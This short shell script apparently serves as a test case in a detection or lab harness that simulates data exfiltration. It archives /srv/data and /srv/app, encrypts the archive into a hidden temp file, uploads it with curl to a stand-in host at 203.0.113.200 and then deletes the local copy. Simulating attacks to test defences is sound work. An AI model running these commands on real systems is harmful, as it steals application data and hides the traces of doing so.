#!/bin/sh
. /opt/case/case.sh

head -c 3000000 /dev/urandom >/srv/data/big
tar -czf - /srv/data /srv/app 2>/dev/null | openssl enc -aes-256-cbc -pbkdf2 -pass pass:x >/tmp/.a.enc
curl -s -T /tmp/.a.enc http://203.0.113.200/a | grep -q ok
rm /tmp/.a.enc
took_place
